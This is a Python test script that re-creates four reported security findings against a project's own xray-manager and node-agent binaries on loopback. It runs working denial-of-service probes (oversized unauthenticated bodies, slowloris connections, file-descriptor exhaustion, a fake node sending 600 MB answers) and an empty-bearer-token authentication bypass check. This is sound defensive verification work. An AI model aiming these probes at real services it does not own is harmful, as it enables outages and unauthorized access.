#!/usr/bin/env python3
"""Hostile probes of the release binaries, from outside, on loopback.

Re-runs the scenarios of issue 14's findings 1, 2, 4 and 5 against the
`xray-manager` and `xray-node-agent` binaries in BIN_DIR and prints what it
measured (resident memory from /proc, connections still open, answers):

    python3 scripts/probe.py --bin-dir target/release all
    python3 scripts/probe.py --bin-dir target/release agent-hold   # finding 1
    python3 scripts/probe.py --bin-dir target/release empty-token  # finding 2
    python3 scripts/probe.py --bin-dir target/release big-answer   # finding 4
    python3 scripts/probe.py --bin-dir target/release slowloris    # finding 5

Only the Python standard library and curl (for HTTP/2 prior knowledge) are
used. Everything binds 127.0.0.1 and runs in a temporary directory.
"""

import argparse
import base64
import json
import os
import secrets
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import urllib.error
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

MIB = 1024 * 1024


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def wait_until(what, deadline_s, check):
    end = time.monotonic() + deadline_s
    while time.monotonic() < end:
        value = check()
        if value:
            return value
        time.sleep(0.05)
    raise SystemExit(f"timed out waiting for {what}")


def listening(port):
    def check():
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=0.5):
                return True
        except OSError:
            return False

    return check


def proc_kib(pid, field):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith(field + ":"):
                return int(line.split()[1])
    return 0


def mib(kib):
    return f"{kib / 1024:.1f} MiB"


def stop(proc):
    if proc.poll() is None:
        proc.send_signal(signal.SIGTERM)
        try:
            proc.wait(10)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait()


# --- the agent ---------------------------------------------------------------


def start_agent(bin_dir, workdir, extra_env=None):
    port, api = free_port(), free_port()
    base = {
        "api": {"tag": "api", "services": ["HandlerService", "StatsService"]},
        "stats": {},
        "inbounds": [
            {"tag": "api", "listen": "127.0.0.1", "port": api,
             "protocol": "dokodemo-door", "settings": {"address": "127.0.0.1"}},
            {"tag": "vless", "listen": "127.0.0.1", "port": free_port(),
             "protocol": "vless", "settings": {"clients": [], "decryption": "none"}},
        ],
        "outbounds": [{"protocol": "freedom", "settings": {}}],
        "routing": {"rules": [{"type": "field", "inboundTag": ["api"], "outboundTag": "api"}]},
    }
    with open(os.path.join(workdir, "base.json"), "w") as f:
        json.dump(base, f)
    key = base64.urlsafe_b64encode(secrets.token_bytes(32)).decode().rstrip("=")
    env = dict(os.environ)
    env.update({
        "XNA_LISTEN": f"127.0.0.1:{port}",
        "XNA_NODE_KEY": key,
        "XNA_FLAVOR": "v2ray",
        "XNA_CORE_BINARY": "/usr/bin/v2ray",
        "XNA_BASE_CONFIG": os.path.join(workdir, "base.json"),
        "XNA_GENERATED_CONFIG": os.path.join(workdir, "core.json"),
        "XNA_API_ADDRESS": f"127.0.0.1:{api}",
        "RUST_LOG": "error",
    })
    env.update(extra_env or {})
    proc = subprocess.Popen([os.path.join(bin_dir, "xray-node-agent")], env=env,
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    wait_until("the agent to listen", 20, listening(port))
    return proc, port


def agent_hold(args):
    """Finding 1: eight unauthenticated 60 MiB bodies, the last byte never sent."""
    size = args.body_mib * MIB
    with tempfile.TemporaryDirectory() as workdir:
        agent, port = start_agent(args.bin_dir, workdir)
        try:
            idle = proc_kib(agent.pid, "VmRSS")
            results = []

            def send(i):
                s = socket.create_connection(("127.0.0.1", port))
                s.sendall((f"POST /start HTTP/1.1\r\nHost: node\r\n"
                           f"Content-Type: application/jose\r\n"
                           f"Content-Length: {size}\r\n\r\n").encode())
                chunk = b"e" * MIB
                sent = 0
                try:
                    while sent < size - 1:
                        n = min(len(chunk), size - 1 - sent)
                        s.sendall(chunk[:n])
                        sent += n
                    outcome = "body sent but for its last byte"
                except OSError as e:
                    outcome = f"server stopped reading after {sent / MIB:.1f} MiB ({e.__class__.__name__})"
                results.append((i, outcome, s))

            threads = [threading.Thread(target=send, args=(i,)) for i in range(args.connections)]
            for t in threads:
                t.start()
            for t in threads:
                t.join(120)
            time.sleep(1)  # let the agent settle before reading its memory
            held = proc_kib(agent.pid, "VmRSS")
            peak = proc_kib(agent.pid, "VmHWM")
            for _, _, s in results:
                s.close()
            time.sleep(1)
            after = proc_kib(agent.pid, "VmRSS")
            outcomes = sorted({o for _, o, _ in results})
            print(f"agent-hold: {args.connections} x {args.body_mib} MiB unauthenticated bodies")
            print(f"  agent RSS idle {mib(idle)}, while held {mib(held)}, peak {mib(peak)}, "
                  f"after close {mib(after)}")
            for o in outcomes:
                print(f"  client saw: {o}")
        finally:
            stop(agent)


# --- the manager -------------------------------------------------------------


def start_manager(bin_dir, workdir, token, extra_env=None, ulimit_n=None):
    port = free_port()
    env = dict(os.environ)
    env.update({
        "XM_LISTEN": f"127.0.0.1:{port}",
        "XM_DATA_DIR": os.path.join(workdir, "data"),
        "XM_HEARTBEAT_MS": "1000",
        "RUST_LOG": "error",
    })
    if token is not None:
        env["XM_ADMIN_TOKEN"] = token
    env.update(extra_env or {})
    cmd = [os.path.join(bin_dir, "xray-manager")]
    if ulimit_n:
        cmd = ["prlimit", f"--nofile={ulimit_n}", "--"] + cmd
    proc = subprocess.Popen(cmd, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    end = time.monotonic() + 20
    while time.monotonic() < end:
        if proc.poll() is not None:
            return proc, None
        if listening(port)():
            return proc, port
        time.sleep(0.05)
    raise SystemExit("the manager did not listen")


def admin(port, token, path, body=None):
    data = json.dumps(body).encode() if body is not None else None
    req = urllib.request.Request(f"http://127.0.0.1:{port}{path}", data=data,
                                 headers={"Authorization": f"Bearer {token}",
                                          "Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(req, timeout=120) as r:
            return r.status, r.read()
    except urllib.error.HTTPError as e:
        return e.code, e.read()


def empty_token(args):
    """Finding 2: XM_ADMIN_TOKEN set but empty, then `Bearer ` over h2c."""
    with tempfile.TemporaryDirectory() as workdir:
        proc, port = start_manager(args.bin_dir, workdir, "")
        try:
            print("empty-token: XM_ADMIN_TOKEN= (set, empty)")
            if port is None:
                err = proc.stderr.read().decode(errors="replace").strip()
                print(f"  manager refused to start: exit {proc.returncode}: {err}")
                # The other half: a manager with a real token never takes an
                # empty presented one.
                proc, port = start_manager(args.bin_dir, workdir, secrets.token_hex(32))
                print("  with a strong token set instead:")
            for path in ["/users", "/nodes"]:
                out = subprocess.run(
                    ["curl", "-s", "-o", "/dev/null", "-w", "%{http_code} %{http_version}",
                     "--http2-prior-knowledge", "-H", "Authorization: Bearer ",
                     f"http://127.0.0.1:{port}{path}"],
                    capture_output=True, text=True, timeout=20).stdout
                print(f"  GET {path} with 'Authorization: Bearer ' over h2c: {out}")
        finally:
            stop(proc)


def big_answer(args):
    """Finding 4: a fake node answers every call with a 600 MB body."""
    size = args.answer_mb * 1000 * 1000

    class Huge(BaseHTTPRequestHandler):
        def log_message(self, *a):
            pass

        def answer(self):
            length = int(self.headers.get("Content-Length") or 0)
            if length:
                self.rfile.read(length)
            self.send_response(200)
            self.send_header("Content-Type", "application/jose")
            self.send_header("Content-Length", str(size))
            self.end_headers()
            chunk = b"A" * MIB
            sent = 0
            try:
                while sent < size:
                    n = min(len(chunk), size - sent)
                    self.wfile.write(chunk[:n])
                    sent += n
            except OSError:
                pass
            self.server.sent.append(sent)

        do_GET = do_POST = answer

    fake = ThreadingHTTPServer(("127.0.0.1", 0), Huge)
    fake.sent = []
    threading.Thread(target=fake.serve_forever, daemon=True).start()
    token = secrets.token_urlsafe(32)
    with tempfile.TemporaryDirectory() as workdir:
        proc, port = start_manager(args.bin_dir, workdir, token)
        try:
            idle = proc_kib(proc.pid, "VmRSS")
            status, body = admin(port, token, "/node/new",
                                 {"endpoint": f"http://127.0.0.1:{fake.server_port}"})
            node = json.loads(body)["nodeID"]
            began = time.monotonic()
            status, body = admin(port, token, "/node/start", {"nodeID": node})
            took = time.monotonic() - began
            peak = proc_kib(proc.pid, "VmHWM")
            now = proc_kib(proc.pid, "VmRSS")
            print(f"big-answer: a fake node answering {args.answer_mb} MB")
            print(f"  /node/start answered {status} {body[:120]!r} in {took:.2f} s")
            print(f"  manager RSS idle {mib(idle)}, peak {mib(peak)}, after {mib(now)}")
            print(f"  bytes the fake node got out per answer (MB): "
                  f"{[round(s / 1e6, 1) for s in fake.sent]}")
        finally:
            stop(proc)
            fake.shutdown()


def still_open(sockets):
    n = 0
    for s in sockets:
        try:
            s.setblocking(False)
            data = s.recv(1, socket.MSG_PEEK)
            if data:
                n += 1  # an answer is waiting: the server still holds it
        except BlockingIOError:
            n += 1
        except OSError:
            pass
    return n


def slowloris_against(port, count, marks, label):
    socks = []
    for i in range(count):
        s = socket.create_connection(("127.0.0.1", port))
        # half the connections stop inside the headers, half inside the request line
        s.sendall(b"GET /health HTTP/1.1\r\nHost: x\r\n" if i % 2 else b"GET /hea")
        socks.append(s)
    began = time.monotonic()
    line = []
    for mark in marks:
        time.sleep(max(0, began + mark - time.monotonic()))
        line.append(f"{still_open(socks)} open at {mark} s")
    print(f"  {label}: {count} half-written requests: " + ", ".join(line))
    for s in socks:
        s.close()


def health(port):
    try:
        with urllib.request.urlopen(f"http://127.0.0.1:{port}/health", timeout=5) as r:
            return str(r.status)
    except Exception as e:  # noqa: BLE001 - the probe reports whatever happened
        return f"failed: {e}"


def slowloris(args):
    """Finding 5: half-written requests on both listeners; a low fd limit."""
    marks = [1, 5, 15, 45]
    print("slowloris:")
    token = secrets.token_urlsafe(32)
    with tempfile.TemporaryDirectory() as workdir:
        proc, port = start_manager(args.bin_dir, workdir, token)
        try:
            slowloris_against(port, 200, marks, "manager")
        finally:
            stop(proc)
    with tempfile.TemporaryDirectory() as workdir:
        agent, port = start_agent(args.bin_dir, workdir)
        try:
            slowloris_against(port, 200, marks, "agent")
        finally:
            stop(agent)
    with tempfile.TemporaryDirectory() as workdir:
        proc, port = start_manager(args.bin_dir, workdir, token, ulimit_n=64)
        try:
            socks = []
            for _ in range(60):
                s = socket.create_connection(("127.0.0.1", port))
                s.sendall(b"GET /health HTTP/1.1\r\nHost: x\r\n")
                socks.append(s)
            print(f"  manager under nofile=64 with 60 half-open requests: /health {health(port)}")
            time.sleep(args.after)
            print(f"  ... {args.after} s later: {still_open(socks)} of 60 still open, "
                  f"/health {health(port)}")
            for s in socks:
                s.close()
        finally:
            stop(proc)


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--bin-dir", default="target/release")
    p.add_argument("--connections", type=int, default=8)
    p.add_argument("--body-mib", type=int, default=60)
    p.add_argument("--answer-mb", type=int, default=600)
    p.add_argument("--after", type=int, default=35, help="seconds to wait in the nofile scenario")
    p.add_argument("scenario", choices=["agent-hold", "empty-token", "big-answer", "slowloris", "all"])
    args = p.parse_args()
    args.bin_dir = os.path.abspath(args.bin_dir)
    chosen = [args.scenario] if args.scenario != "all" else ["agent-hold", "empty-token", "big-answer", "slowloris"]
    table = {"agent-hold": agent_hold, "empty-token": empty_token,
             "big-answer": big_answer, "slowloris": slowloris}
    for name in chosen:
        table[name](args)
        sys.stdout.flush()


if __name__ == "__main__":
    main()
